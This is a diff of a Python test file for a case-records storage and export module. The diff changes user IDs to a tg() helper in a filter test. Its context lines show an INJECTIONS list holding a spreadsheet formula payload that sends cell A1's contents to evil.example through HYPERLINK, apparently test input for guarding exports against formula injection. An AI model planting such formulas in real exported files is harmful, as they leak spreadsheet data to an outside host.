@@ -34,6 +34,7 @@ from storage.base import Storage
 from storage.memory import MemoryStorage
 from storage.records import Case, CaseFilter, CaseStatus, EvidenceRef
 from tests.staff.cases import FIRST_DAY, AddCase, draft
+from tests.support.users import tg
 
 INJECTIONS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -286,7 +287,7 @@ def test_jsonl_holds_full_records(store: Storage, add_case: AddCase, policy: Pol
 def test_filters(store: Storage, add_case: AddCase, policy: Policy):
     a = add_case(
         at=at_kst(2022, 10, 19, 0, 0, 0),
-        user_id=1,
+        user_id=tg(1),
         reporter_type="general",
         service="kakaotalk",
         monetary=False,
@@ -301,7 +302,7 @@ def test_filters(store: Storage, add_case: AddCase, policy: Policy):
         tier="review",
         status=CaseStatus.REJECTED,
     )
-    d = add_case(at=at_kst(2022, 10, 21, 12, 0, 0), user_id=1, tier="cash_50k", amount=400_000)
+    d = add_case(at=at_kst(2022, 10, 21, 12, 0, 0), user_id=tg(1), tier="cash_50k", amount=400_000)
 
     def numbers(flagged: bool | None = None, **kwargs) -> list[str]:
         rows = select_rows(store, CaseFilter(**kwargs), flagged=flagged)
